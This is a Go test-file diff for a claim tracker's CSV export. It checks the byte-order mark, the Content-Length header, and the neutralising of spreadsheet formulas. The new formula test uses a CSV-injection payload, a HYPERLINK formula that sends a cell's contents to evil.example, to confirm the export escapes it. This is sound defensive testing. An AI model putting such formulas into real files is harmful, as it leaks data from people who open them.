@@ -31,7 +31,9 @@ func TestClaimListExport(t *testing.T) {
 	require.Equal(t, http.StatusOK, res.status)
 	assert.Equal(t, "text/csv; charset=utf-8", res.header.Get("Content-Type"))
 	assert.Contains(t, res.header.Get("Content-Disposition"), `attachment; filename="claims-`)
-	records, err := csv.NewReader(strings.NewReader(res.body)).ReadAll()
+	assert.True(t, strings.HasPrefix(res.body, "\ufeff"), "a CSV file starts with a byte-order mark")
+	assert.Equal(t, strconv.Itoa(len(res.body)), res.header.Get("Content-Length"), "a download announces its length")
+	records, err := readCSV(res.body)
 	require.NoError(t, err)
 	require.Equal(t, []string{"id", "url", "text", "status", "kind", "main_source", "tags", "due_date", "context",
 		"verdict_note", "version", "created_at", "updated_at"}, records[0])
@@ -69,24 +71,63 @@ func TestClaimListExport(t *testing.T) {
 	page, err := a.db.FindClaims(context.Background(), claimtrack.ClaimFilter{Tag: "bulk", Limit: 1000})
 	require.NoError(t, err)
 	require.Equal(t, 30, page.Total)
-	records, err = csv.NewReader(strings.NewReader(a.get("/claims.csv?tag=bulk").body)).ReadAll()
+	records, err = readCSV(a.get("/claims.csv?tag=bulk").body)
 	require.NoError(t, err)
 	require.Len(t, records, 31)
 	for i, c := range page.Claims {
 		assert.Equal(t, strconv.FormatInt(c.ID, 10), records[i+1][0])
 		assert.Equal(t, "bulk", records[i+1][6])
 	}
-	records, err = csv.NewReader(strings.NewReader(a.get("/claims.csv?q=parade+-generated").body)).ReadAll()
+	records, err = readCSV(a.get("/claims.csv?q=parade+-generated").body)
 	require.NoError(t, err)
 	for _, r := range records[1:] {
 		assert.NotContains(t, r[2], "Generated", "the words filter applies")
 	}
 
 	// An empty view is a header alone, or an empty list; an unknown source is a 404.
-	records, err = csv.NewReader(strings.NewReader(a.get("/claims.csv?tag=nothing-like-this").body)).ReadAll()
+	records, err = readCSV(a.get("/claims.csv?tag=nothing-like-this").body)
 	require.NoError(t, err)
 	assert.Len(t, records, 1)
 	require.NoError(t, json.Unmarshal([]byte(a.get("/claims.json?tag=nothing-like-this").body), &doc))
 	assert.Empty(t, doc.Claims)
 	assert.Equal(t, http.StatusNotFound, a.get("/claims.csv?source=9999").status)
+}
+
+// readCSV reads a downloaded CSV file, past its byte-order mark.
+func readCSV(body string) ([][]string, error) {
+	return csv.NewReader(strings.NewReader(strings.TrimPrefix(body, "\ufeff"))).ReadAll()
+}
+
+// Issue 16, item 6: a claim whose text is a spreadsheet formula is exported
+// neutralised (a single quote in front), in a file that starts with a
+// byte-order mark; the JSON keeps the text as it is.
+func TestClaimListExport_FormulasNeutralised(t *testing.T) {
+	a := newTestApp(t)
+	text := `=HYPERLINK("https://evil.example/?leak="&A1,"Click for the source")`
+	require.Equal(t, http.StatusSeeOther, a.post("/claims", map[string][]string{
+		"text": {text}, "kind": {"statement"}, "tags": {"formula"}, "context": {"-5% was the figure; +1 for the desk; @editor"}}).status)
+
+	res := a.get("/claims.csv?tag=formula")
+	require.Equal(t, http.StatusOK, res.status)
+	require.True(t, strings.HasPrefix(res.body, "\ufeff"), "the file starts with a byte-order mark")
+	assert.NotContains(t, res.body, ","+text, "the formula is not a cell of its own")
+	records, err := readCSV(res.body)
+	require.NoError(t, err)
+	require.Len(t, records, 2)
+	assert.Equal(t, "'"+text, records[1][2], "the text is neutralised")
+	assert.Equal(t, "'-5% was the figure; +1 for the desk; @editor", records[1][8], "a leading minus sign too")
+	for _, cell := range records[1] {
+		if cell != "" {
+			assert.NotContains(t, "=+-@\t\r", cell[:1], "no cell starts a formula: %q", cell)
+		}
+	}
+
+	var doc struct {
+		Claims []struct {
+			Text string `json:"text"`
+		} `json:"claims"`
+	}
+	require.NoError(t, json.Unmarshal([]byte(a.get("/claims.json?tag=formula").body), &doc))
+	require.Len(t, doc.Claims, 1)
+	assert.Equal(t, text, doc.Claims[0].Text, "JSON is for programs: the text as it is")
 }
